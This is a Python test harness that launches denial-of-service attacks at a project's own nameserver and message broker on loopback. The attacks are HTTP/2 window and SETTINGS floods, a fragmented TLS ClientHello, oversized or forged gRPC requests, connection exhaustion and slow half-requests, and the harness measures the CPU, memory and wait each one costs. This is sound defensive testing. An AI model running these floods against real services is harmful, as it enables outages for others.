"""Attacks our processes as a stranger would, and says what each attack costs them: `make hostile`.

    PYTHONPATH=services:tests:tools python -m hostile.run [--times 10] [ATTACK ...]

Each attack sends a multiple (`--times`) of the bytes with which its kind was once seen to do harm, to a
nameserver or a broker of its own on loopback, and connects again when it is cut off. The table has the bytes
that went in, the CPU time of the attacked process, by how much its anonymous memory grew meanwhile, and the
longest wait of an honest client from another address. An attack that costs more than `CPU_S_MAX` or
`GROWTH_BYTES_MAX`, or keeps the honest client waiting for more than `WAIT_S_MAX`, fails.

An attack is a function in `ATTACKS`; it may use what it likes of `attackers.py`.
"""

import argparse
import contextlib
import itertools
import resource
import struct
import sys
import tempfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

from hostile import remoting
from hostile.attackers import HONEST_HOST, Honest, Target, Watch
from support.cluster.processes import Cluster
from support.http2 import blocking
from support.http2.blocking import HEALTH, Caller, Ended, Peer, dial
from support.http2.frames import HELLO, SETTINGS, WINDOW, call, frame, headers, setting, u32
from whimbrel.pb.apache.rocketmq.v2 import definition_pb2 as v2
from whimbrel.pb.apache.rocketmq.v2 import service_pb2 as messaging
from whimbrel.pb.whimbrel.admin.v1 import admin_service_pb2 as admin
from whimbrel.pb.whimbrel.registry.v1 import registry_service_pb2 as registry
from whimbrel.pb.whimbrel.replica.v1 import replica_service_pb2 as replica
from whimbrel.rpc.http2.grpc_format import Assembler

__all__ = ["ATTACKS", "Attack", "Cost", "Rig", "measure", "rig"]

CPU_S_MAX = 1.0
GROWTH_BYTES_MAX = 64_000_000
WAIT_S_MAX = 5.0

MESSAGING = "/apache.rocketmq.v2.MessagingService/"
ADMIN = "/whimbrel.admin.v1.AdminService/"
CLIENT = (("x-mq-client-id", "hostile@1"), ("x-mq-protocol", "v2"))
TOPIC = "attacked"
OPEN_FILES = 2048  # that the broker may have; attackers open more
MIB = 1 << 20


@dataclass(frozen=True, slots=True)
class Rig:
    """The processes that are attacked."""

    cluster: Cluster

    def address(self, kind: str) -> str:
        """Return the address of what an attack is for."""
        process = self.cluster.nameserver if kind == "nameserver" else self.cluster.master
        return str(process.ready["metrics"]) if kind == "metrics" else process.grpc

    def pid(self, kind: str) -> int:
        """Return the process of what an attack is for."""
        return self.cluster.nameserver.pid if kind == "nameserver" else self.cluster.master.pid


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack.

    Attributes:
        name: for people and for the command line.
        run: sends until `Target.left` is nothing.
        kind: what it is for: `nameserver`, `broker`, or `metrics` (the broker's port for them).
        bytes_told: with which it was seen to do harm.
        ask: what the honest client asks, where that is not its health.
        cpu_s_max: where a limit of its own has a reason.
    """

    name: str
    run: Callable[[Target], None]
    kind: str
    bytes_told: int
    ask: Callable[[Rig], None] | None = None
    cpu_s_max: float = CPU_S_MAX


@dataclass(frozen=True, slots=True)
class Cost:
    """What an attack cost."""

    attack: Attack
    sent_bytes: int
    cpu_s: float
    grown_bytes: int
    wait_s: float
    unanswered: str

    @property
    def faults(self) -> list[str]:
        """Return which bounds it exceeds."""
        found = []
        if self.cpu_s > self.attack.cpu_s_max:
            found.append(f"{self.cpu_s:.1f} s of CPU")
        if self.grown_bytes > GROWTH_BYTES_MAX:
            found.append(f"{self.grown_bytes / 1e6:.0f} MB")
        if self.unanswered or self.wait_s > WAIT_S_MAX:
            found.append(f"an honest client waits ({self.unanswered or f'{self.wait_s:.1f} s'})")
        return found

    def row(self) -> str:
        """Return a row of the table."""
        answered = "no" if self.unanswered or self.wait_s > WAIT_S_MAX else "yes"
        return (
            f"| {self.attack.name} | {self.sent_bytes:,} | {self.cpu_s:.2f} | {self.grown_bytes / 1e6:.0f} "
            f"| {answered}, {self.wait_s * 1000:.0f} ms |"
        )


TABLE_HEAD = (
    "| attack | bytes in | CPU s | MB more | honest client answered, longest wait |\n|---|---:|---:|---:|---|"
)


# HTTP/2


def open_streams(count: int, *, whole: bool) -> bytes:
    """Return the begins of calls, or whole ones."""
    return b"".join((call if whole else headers)(2 * n + 1, HEALTH) for n in range(count))


def window_updates(target: Target) -> None:
    """Block 1000 answers by an initial window of 0, then let the connection's window grow by 1, often."""
    update = frame(WINDOW, 0, 0, u32(1)) * 1000
    while target.left:
        with contextlib.suppress(Ended), Peer(target) as peer:
            peer.send(HELLO + setting(4, 0) + open_streams(1000, whole=True))
            while target.left:
                peer.send(update)
                peer.settle()


def settings_entries(target: Target) -> None:
    """Change the initial window of 1000 open streams by SETTINGS of 20,000 entries."""
    entries = (b"\x00\x04" + u32(1) + b"\x00\x04" + u32(2)) * 10_000
    while target.left:
        with contextlib.suppress(Ended), Peer(target) as peer:
            peer.send(HELLO + open_streams(1000, whole=False))
            while target.left:
                peer.send(frame(SETTINGS, 0, 0, entries))
                peer.settle()


def settings_frames(target: Target) -> None:
    """The same by one entry a frame."""
    both = (setting(4, 1) + setting(4, 2)) * 50
    while target.left:
        with contextlib.suppress(Ended), Peer(target) as peer:
            peer.send(HELLO + open_streams(1000, whole=False))
            while target.left:
                peer.send(both)
                peer.settle()


def client_hello(target: Target) -> None:
    """Send ClientHellos in records of one byte, twelve bytes at a time, over ten connections in turn.

    Pings on another connection let the server read the pieces one by one, or nearly.
    """
    body = b"\x01" + (60_000).to_bytes(3, "big") + bytes(60_000)
    records = b"".join(b"\x16\x03\x01\x00\x01" + bytes((byte,)) for byte in body[:5334])
    each = max(min(target.total // 10, len(records)), 12)
    with contextlib.ExitStack() as stack:
        peers = [stack.enter_context(Peer(target)) for _ in range(10)]
        clock = stack.enter_context(Peer(target))
        clock.send(HELLO)
        for at in range(0, each, 12):
            if at % 24:
                clock.settle()
            for peer in peers:
                with contextlib.suppress(Ended):
                    peer.send(records[at : at + 12])


# Requests


def repeat(target: Target, path: str, body: bytes) -> None:
    """Call again and again with a large request, whatever becomes of it."""
    while target.left:
        with contextlib.suppress(Ended), Caller(target) as caller:
            while target.left:
                began = target.sent
                with contextlib.suppress(Ended):
                    caller.call(path, body, CLIENT)
                target.sent = max(target.sent, began + min(len(body), target.left))  # also what was not taken
                if caller.ended:
                    break


def ack_entries(target: Target) -> None:
    """Acknowledge by 1 MiB of empty entries."""
    names = messaging.AckMessageRequest(group=v2.Resource(name="g"), topic=v2.Resource(name=TOPIC))
    repeat(target, MESSAGING + "AckMessage", names.SerializeToString() + b"\x1a\x00" * (MIB // 2))


def empty_messages(target: Target) -> None:
    """Send 4 MiB of empty messages."""
    repeat(target, MESSAGING + "SendMessage", b"\x0a\x00" * (2 * MIB))


def many_messages(target: Target) -> None:
    """Send 20,000 messages at a time."""
    one = messaging.SendMessageRequest(
        messages=[
            v2.Message(
                topic=v2.Resource(name=TOPIC),
                body=b"x",
                system_properties=v2.SystemProperties(message_id="0" * 20),
            )
        ]
    )
    repeat(target, MESSAGING + "SendMessage", one.SerializeToString() * 20_000)


def health_echo(target: Target) -> None:
    """Ask for the health of a service with a name of 16 MiB."""
    size = 16 * MIB
    repeat(target, HEALTH, b"\x0a" + b"\x80\x80\x80\x08" + b"x" * size)


def telemetry_settings(target: Target) -> None:
    """Write settings of 0.7 MB on the streams of many clients, and keep the streams open."""
    each = 700_000
    topic = b"\x0a\x03\x12\x01a"  # named `a`
    publishing = topic * (each // len(topic))
    settings = v2.Settings(publishing=v2.Publishing(), client_type=v2.PRODUCER)
    settings.publishing.MergeFromString(publishing)
    body = messaging.TelemetryCommand(settings=settings).SerializeToString()
    number = 0
    with contextlib.ExitStack() as stack:
        while target.left:
            number += 1
            client = (("x-mq-client-id", f"hostile@{number}"), ("x-mq-protocol", "v2"))
            caller = stack.enter_context(Caller(target))
            with contextlib.suppress(Ended):
                stream = caller.begin(MESSAGING + "Telemetry", body, client, end=False)
                caller.wait([stream.id], lambda n, c=caller: n in c.messages or n in c.statuses)  # type: ignore[misc]
        with contextlib.suppress(Ended), Caller(target) as caller:
            for turn in range(10):
                group = admin.UpdateGroupRequest(name="held", max_attempts=1 + turn)
                caller.call(ADMIN + "UpdateGroup", group.SerializeToString())


def handle_of_one(target: Target) -> str:
    """Send a message, receive it, and return its handle."""
    topic, group = v2.Resource(name=TOPIC), v2.Resource(name="held")
    one = v2.Message(topic=topic, body=b"x", system_properties=v2.SystemProperties(message_id="0" * 20))
    with Caller(target) as caller:
        sent = messaging.SendMessageRequest(messages=[one])
        caller.call(MESSAGING + "SendMessage", sent.SerializeToString(), CLIENT)
        asked = messaging.ReceiveMessageRequest(
            group=group, message_queue=v2.MessageQueue(topic=topic, id=-1), batch_size=1
        )
        asked.invisible_duration.seconds = 60
        stream = caller.begin(MESSAGING + "ReceiveMessage", asked.SerializeToString(), CLIENT)
        caller.wait([stream.id])
        for data in Assembler(MIB).feed(caller.messages[stream.id]):
            found = messaging.ReceiveMessageResponse.FromString(data)
            if found.HasField("message"):
                return found.message.system_properties.receipt_handle
    raise AssertionError("no message came")


def forged_acks(target: Target) -> None:
    """Acknowledge one message for groups that do not exist, by handles made from one that was given."""
    number, given = 0, handle_of_one(target)
    while target.left:
        with contextlib.suppress(Ended), Caller(target) as caller:
            while target.left:
                streams = []
                for _ in range(200):
                    number += 1
                    group = f"forged{number}"
                    request = messaging.AckMessageRequest(
                        group=v2.Resource(name=group), topic=v2.Resource(name=TOPIC)
                    )
                    request.entries.add(message_id="id", receipt_handle=given.replace(":held:", f":{group}:"))
                    data = request.SerializeToString()
                    streams.append(caller.begin(MESSAGING + "AckMessage", data, CLIENT).id)
                caller.wait(streams)


# Between processes


def lease_entries(target: Target) -> None:
    """Send lease entries that stand for 65,536 messages each, sixteen of them in 1104 bytes."""
    head, lease = struct.Struct("<BBBiI"), struct.Struct("<qIQIqqIBH")
    group, topic = b"leased", TOPIC.encode()
    with contextlib.suppress(Ended), Caller(target) as caller:
        hello = replica.SyncLeasesRequest(broker_name="broker-a", broker_id=1)
        stream = caller.begin(
            "/whimbrel.replica.v1.ReplicaService/SyncLeases", hello.SerializeToString(), end=False
        )
        number = 0
        while target.left and not caller.ended and stream.id not in caller.statuses:
            entries = b""
            for _ in range(16):
                entries += head.pack(2, len(group), len(topic), 0, 0) + group + topic
                entries += lease.pack(number << 16, 1 << 16, 1 + number, 0, 1 << 42, 1 << 41, 1, 0, 0)
                number += 1
            caller.add(stream, replica.SyncLeasesRequest(entries=entries).SerializeToString())
            caller.read(0.05)
        caller.settle()


def queue_counts(target: Target) -> None:
    """Register a topic with 200,000 queues, and ask for its route ten times."""
    broker = registry.Registration(
        cluster="DefaultCluster", broker_name="hostile", role=registry.BROKER_ROLE_MASTER, port=1,
        advertised_host="127.0.0.1", host_name="x", nameserver_host="127.0.0.1",
    )  # fmt: skip
    many = registry.TopicQueues(topic="wide", read_queues=200_000, write_queues=200_000, permission=6)
    hello = registry.SessionRequest(registration=broker, topics=[many], topics_included=True, writable=True)
    asked = messaging.QueryRouteRequest(topic=v2.Resource(name="wide"))
    asked.endpoints.scheme = v2.IPv4
    asked.endpoints.addresses.add(host="127.0.0.1", port=1)
    with contextlib.suppress(Ended), Caller(target) as session, Caller(target) as caller:
        stream = session.begin(
            "/whimbrel.registry.v1.RegistryService/Session", hello.SerializeToString(), end=False
        )
        session.wait([stream.id], lambda n: n in session.messages or n in session.statuses)
        while target.left:
            caller.call(MESSAGING + "QueryRoute", asked.SerializeToString(), CLIENT)
            caller.messages.clear()


# Connections


def connections(target: Target) -> None:
    """Open more connections than there are descriptors, and keep them."""
    count = target.total // len(HELLO)
    with contextlib.ExitStack() as stack:
        for _ in range(count):
            with contextlib.suppress(OSError):
                sock = stack.enter_context(dial(target.address))
                sock.setblocking(False)
                target.sent += sock.send(HELLO)
        with contextlib.suppress(OSError, Ended, AssertionError):  # the honest client tells
            ask_for_a_topic(target.address, "made-last")


def ask_for_a_topic(address: str, name: str) -> None:
    """Create a topic, which writes a file, from another host."""
    topic = admin.Topic(name=name, read_queues=1, write_queues=1, permission=6)
    with Caller(blocking.Target(address), source=HONEST_HOST) as caller:
        status = caller.call(ADMIN + "CreateTopic", admin.CreateTopicRequest(topic=topic).SerializeToString())
    assert status == 0, f"CreateTopic ended with {status}"


numbers = itertools.count()


def keep_creating(rig: Rig) -> None:
    """Create one topic after the other."""
    ask_for_a_topic(rig.address("broker"), f"made-{next(numbers)}")


def dawdlers(target: Target) -> None:
    """Ask the metrics port for half a request, over and over, and keep the connections."""
    with contextlib.ExitStack() as stack:
        while target.left:
            with contextlib.suppress(OSError):
                sock = stack.enter_context(dial(target.address))
                target.sent += sock.send(b"GET /met")
        with contextlib.suppress(OSError, AssertionError):  # the honest client tells
            scrape(target.address)


def scrape(address: str) -> None:
    """Ask for metrics from another host."""
    with dial(address, HONEST_HOST) as sock:
        sock.settimeout(WAIT_S_MAX)
        sock.sendall(b"GET /healthz HTTP/1.1\r\n\r\n")
        assert sock.recv(4096).startswith(b"HTTP/1.1 200"), "the metrics port closed the connection"


def keep_scraping(rig: Rig) -> None:
    """Ask for metrics."""
    scrape(rig.address("metrics"))


ATTACKS: tuple[Attack, ...] = (
    Attack("window-updates", window_updates, "nameserver", 130_000),
    Attack("settings-entries", settings_entries, "nameserver", 120_000),
    Attack("settings-frames", settings_frames, "nameserver", 120_000),
    Attack("client-hello", client_hello, "nameserver", 32_000),
    Attack("ack-entries", ack_entries, "broker", MIB),
    Attack("many-messages", many_messages, "broker", 960_000),
    Attack("empty-messages", empty_messages, "broker", 4 * MIB),
    Attack("health-echo", health_echo, "broker", 16 * MIB),
    Attack("lease-entries", lease_entries, "broker", 1104),
    Attack("queue-counts", queue_counts, "nameserver", 200),
    Attack("telemetry-settings", telemetry_settings, "broker", 700_000),
    # Whole calls, each refused: they cost what calls cost, so that only their memory has the common limit.
    Attack("forged-acks", forged_acks, "broker", 4_000_000, cpu_s_max=30.0),
    Attack("connections", connections, "broker", 250 * len(HELLO), keep_creating),
    Attack("dawdling-scrapers", dawdlers, "metrics", 4 * 8, keep_scraping),
    # By the remoting protocol: nothing was seen to do harm there, so that these bytes are what is tried.
    Attack("remoting-nested", remoting.nested_headers, "broker", MIB),
    Attack("remoting-fields", remoting.many_fields, "broker", MIB),
    Attack("remoting-halves", remoting.half_frames, "broker", 8 * MIB),
    Attack("remoting-groups", remoting.many_groups, "broker", 200_000),
    Attack("remoting-heartbeats", remoting.many_subscriptions, "broker", 2 * MIB),
    Attack("remoting-locks", remoting.many_locks, "broker", 2 * MIB),
    Attack("remoting-held", remoting.held_pulls, "broker", 200_000),
    Attack("remoting-unread", remoting.unread_pulls, "broker", 21 * MIB),
    Attack("names-nested", remoting.nested_headers, "nameserver", MIB),
    Attack("names-fields", remoting.many_fields, "nameserver", MIB),
    Attack("names-halves", remoting.half_frames, "nameserver", 8 * MIB),
    Attack("names-routes", remoting.many_routes, "nameserver", MIB),
    Attack("names-unread", remoting.unread_lists, "nameserver", 200_000),
    Attack("names-values", remoting.many_values, "nameserver", MIB),
)


@contextlib.contextmanager
def rig(folder: Path) -> Iterator[Rig]:
    """Start what is attacked: a nameserver and a broker, with the topic that attacks name."""
    cluster = Cluster(folder, slaves=0, broker={"metrics_port": 0, "commitlog_file_size": 64 * MIB})
    with cluster:
        cluster.master.stop()
        cluster.master.launch()
        resource.prlimit(cluster.master.pid, resource.RLIMIT_NOFILE, (OPEN_FILES, OPEN_FILES))
        cluster.master.wait_ready()
        cluster.wait_usable()
        ask_for_a_topic(cluster.master.grpc, TOPIC)
        with Caller(blocking.Target(cluster.master.grpc), source=HONEST_HOST) as caller:
            group = admin.CreateGroupRequest(
                group=admin.Group(name="held", max_attempts=3, consume_enabled=True)
            )
            caller.call(ADMIN + "CreateGroup", group.SerializeToString())
        yield Rig(cluster)


def measure(attack: Attack, attacked: Rig, times: float) -> Cost:
    """Attack, and return what it cost."""
    target = Target(attacked.address(attack.kind), attack.bytes_told, times)
    ask = attack.ask
    honest = Honest(target.address, None if ask is None else lambda: ask(attacked))
    with Watch(attacked.pid(attack.kind), honest) as watch:
        attack.run(target)
        watch.wait_until_quiet()
    return Cost(attack, target.sent, watch.cpu_s, watch.grown_bytes, honest.longest_s, honest.failed)


def main(arguments: Sequence[str]) -> int:
    """Attack, print the table, and return the exit code."""
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("attacks", nargs="*", metavar="ATTACK", help="all, unless some are named")
    parser.add_argument("--times", type=float, default=10.0, help="of the bytes that were seen to do harm")
    asked = parser.parse_args(arguments)
    unknown = set(asked.attacks) - {attack.name for attack in ATTACKS}
    if unknown:
        names = ", ".join(attack.name for attack in ATTACKS)
        print(f"there is no attack {', '.join(sorted(unknown))}; there are {names}", file=sys.stderr)
        return 2
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    print(TABLE_HEAD, flush=True)
    failed: list[str] = []
    for attack in ATTACKS:
        if not asked.attacks or attack.name in asked.attacks:
            with tempfile.TemporaryDirectory() as folder, rig(Path(folder)) as attacked:
                cost = measure(attack, attacked, asked.times)
            print(cost.row(), flush=True)
            if cost.faults:
                failed.append(f"{attack.name}: {', '.join(cost.faults)}")
    print(f"\n{len(failed)} attacks cost too much" + "".join(f"\n- {line}" for line in failed), flush=True)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
